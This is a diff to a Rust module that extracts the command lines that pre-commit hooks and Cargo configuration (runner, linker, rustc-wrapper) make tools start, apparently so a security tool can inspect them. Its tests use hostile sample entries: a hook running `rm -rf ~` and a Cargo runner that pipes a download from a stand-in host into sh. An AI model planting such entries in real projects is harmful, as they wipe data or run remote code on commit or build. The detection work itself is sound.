@@ -1,13 +1,17 @@
 //! Files that make a tool start programs: an MCP client's server list
 //! (`.mcp.json`, `.cursor/mcp.json`, `.vscode/mcp.json`: each server's
 //! `command` with its `args`, started when the agent or the editor loads
-//! the project) and VS Code's tasks (`.vscode/tasks.json`: each task's
-//! `command` with its `args`, some run as soon as the folder opens). Each
-//! is a command line, spelt as the shell would read it.
+//! the project), VS Code's tasks (`.vscode/tasks.json`: each task's
+//! `command` with its `args`, some run as soon as the folder opens),
+//! pre-commit's local hooks (`.pre-commit-config.yaml`: each `entry`, run
+//! by `git commit`) and Cargo's configuration (`.cargo/config.toml`: the
+//! `runner` that `cargo run`/`cargo test` start the program with, the
+//! `linker` and the `rustc-wrapper`s every build runs). Each is a command
+//! line, spelt as the shell would read it.
 
 use serde_json::Value;
 
-use super::formats::{Found, argv_line};
+use super::formats::{Found, argv_line, double_quoted, yaml_scalar};
 
 /// Most command lines a reader returns.
 const MAX_COMMANDS: usize = 64;
@@ -52,6 +56,99 @@ pub fn vscode_tasks(content: &str) -> Vec<Found> {
         })
         .take(MAX_COMMANDS)
         .collect()
+}
+
+/// Every hook's `entry` with its inline `args` in a pre-commit
+/// configuration. Only local hooks carry an `entry` in this file (a remote
+/// repository's hooks come from its own manifest), and `git commit` runs
+/// it as a command.
+pub fn pre_commit(content: &str) -> Vec<Found> {
+    let mut out = Vec::new();
+    let mut last_id = None;
+    for line in content.lines() {
+        let item = line.trim_start().trim_start_matches("- ").trim_start();
+        if let Some(id) = item.strip_prefix("id:") {
+            last_id = Some(yaml_scalar(id));
+        } else if let Some(entry) = item.strip_prefix("entry:") {
+            let entry = yaml_scalar(entry);
+            if !entry.is_empty() {
+                out.push(Found {
+                    name: last_id.clone(),
+                    command: entry,
+                });
+            }
+        }
+        if out.len() >= MAX_COMMANDS {
+            break;
+        }
+    }
+    out
+}
+
+/// The programs Cargo's configuration makes Cargo run: each target's
+/// `runner` and `linker` (`[target.<triple>]`, `[target.'cfg(…)']`) and the
+/// build's `rustc`, `rustc-wrapper` and `rustc-workspace-wrapper`, also as
+/// dotted keys (`target.x.runner = …`); a string is a command line, an
+/// array of strings a program with its arguments. Read line by line (no
+/// TOML parser in the policies): a value spread over several lines is not
+/// read.
+pub fn cargo_config(content: &str) -> Vec<Found> {
+    let mut out = Vec::new();
+    let mut table = String::new();
+    for line in content.lines() {
+        let line = line.trim();
+        if let Some(header) = line.strip_prefix('[').and_then(|h| h.split(']').next()) {
+            table = header.trim().to_string();
+            continue;
+        }
+        let Some((key, value)) = line.split_once('=') else {
+            continue;
+        };
+        let key = key.trim().trim_matches('"');
+        let full = if table.is_empty() {
+            key.to_string()
+        } else {
+            format!("{table}.{key}")
+        };
+        let runs = full.starts_with("target.")
+            && (full.ends_with(".runner") || full.ends_with(".linker"))
+            || matches!(
+                full.as_str(),
+                "build.rustc" | "build.rustc-wrapper" | "build.rustc-workspace-wrapper"
+            );
+        if let Some(command) = runs.then(|| toml_command(value.trim())).flatten() {
+            out.push(Found {
+                name: Some(full),
+                command,
+            });
+        }
+        if out.len() >= MAX_COMMANDS {
+            break;
+        }
+    }
+    out
+}
+
+/// A TOML string (basic or literal) or one-line array of strings, as a
+/// command line.
+fn toml_command(v: &str) -> Option<String> {
+    if let Some(inner) = v.strip_prefix('[') {
+        let inner = inner.split(']').next()?;
+        let argv: Vec<String> = inner
+            .split(',')
+            .filter_map(|item| toml_string(item.trim()))
+            .collect();
+        return (!argv.is_empty()).then(|| argv_line(&argv));
+    }
+    toml_string(v)
+}
+
+/// A one-line TOML string: `"basic"` (JSON's escapes) or `'literal'`.
+fn toml_string(v: &str) -> Option<String> {
+    if let Some(inner) = v.strip_prefix('\'') {
+        return inner.split('\'').next().map(String::from);
+    }
+    serde_json::from_str(double_quoted(v)?).ok()
 }
 
 /// `command` followed by `args` (strings, or VS Code's `{ "value": … }`).
@@ -100,6 +197,44 @@ mod tests {
         let vscode = r#"{"servers": {"db": {"type": "stdio", "command": "uvx", "args": ["mcp-server-sqlite"]}}}"#;
         assert_eq!(commands(mcp_servers(vscode)), ["uvx mcp-server-sqlite"]);
         assert!(mcp_servers("not json").is_empty());
+    }
+
+    #[test]
+    fn pre_commit_local_hooks_run_their_entries() {
+        let c = "repos:\n- repo: https://github.com/pre-commit/pre-commit-hooks\n  rev: v4.5.0\n  hooks:\n  - id: trailing-whitespace\n- repo: local\n  hooks:\n  - id: wipe\n    name: x\n    entry: bash -c 'rm -rf ~'\n    language: system\n  - id: lint\n    entry: \"cargo clippy\"  # fast\n";
+        let found = pre_commit(c);
+        assert_eq!(
+            commands(found.clone()),
+            ["bash -c 'rm -rf ~'", "cargo clippy"]
+        );
+        assert_eq!(found[0].name.as_deref(), Some("wipe"));
+    }
+
+    #[test]
+    fn cargo_config_runs_runners_linkers_and_wrappers() {
+        let c = r#"
+[build]
+rustc-wrapper = "sccache"
+rustflags = ["-C", "target-cpu=native"]
+[target.x86_64-unknown-linux-gnu]
+runner = "sh -c 'curl -s https://x.example/p | sh'"
+linker = "clang"
+[target.'cfg(unix)']
+runner = ["valgrind", "--leak-check=full"]
+"#;
+        let mut got = commands(cargo_config(c));
+        got.sort();
+        assert_eq!(
+            got,
+            [
+                "clang",
+                "sccache",
+                "sh -c 'curl -s https://x.example/p | sh'",
+                "valgrind --leak-check=full",
+            ]
+        );
+        assert!(cargo_config("[build]\njobs = 4\n").is_empty());
+        assert!(cargo_config("not = [toml").is_empty());
     }
 
     #[test]
